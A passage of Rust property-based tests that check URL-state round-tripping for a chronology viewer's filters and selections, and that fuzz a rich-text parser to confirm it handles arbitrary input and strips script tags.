        let Ok(imported) = imported else {
            // Refused: then some id is one a link cannot carry, or two ids are the same.
            let all: Vec<&String> = phases.iter().chain(&domains).chain(&parties).chain(&events).collect();
            prop_assert!(
                all.iter().any(|id| id_problem(id).is_some()),
                "refused although every id is fine"
            );
            return Ok(());
        };
        let c = &imported.chronology;
        for e in &c.events {
            let view = ViewState {
                filter: Filter {
                    phases: c.phases.iter().map(|p| p.id.clone()).collect(),
                    domains: c.domains.iter().map(|d| d.id.clone()).collect(),
                    third_parties: c.third_parties.iter().map(|t| t.id.clone()).collect(),
                    text: text.clone(),
                    ..Filter::default()
                },
                dim,
                window: window.map(|(start, span)| url_state::round_window(start, start + span)),
                selected: Some(e.id.clone()),
                data: Some(url_state::KEPT_DATA.to_string()),
                ..ViewState::default()
            };
            let (back, notices) = url_state::parse(&url_state::to_query(&view));
            prop_assert!(notices.is_empty(), "{:?}", notices);
            prop_assert_eq!(back, view);
        }
    }

    #[test]
    fn rich_text_parses_tag_soup_into_its_allow_list(markup in tag_soup()) {
        let tree = check_rich_text(&markup)?;
        prop_assert!(!tree.plain_text().to_ascii_lowercase().contains("<script"));
    }

    #[test]
    fn rich_text_parses_any_text(markup in prop_oneof![
        "\\PC{0,200}",
        prop::collection::vec(any::<char>(), 0..100).prop_map(|c| c.into_iter().collect::<String>()),
        "[<>/!?&#;=\"' a-z0-9-]{0,120}",
    ]) {
        check_rich_text(&markup)?;
    }
}
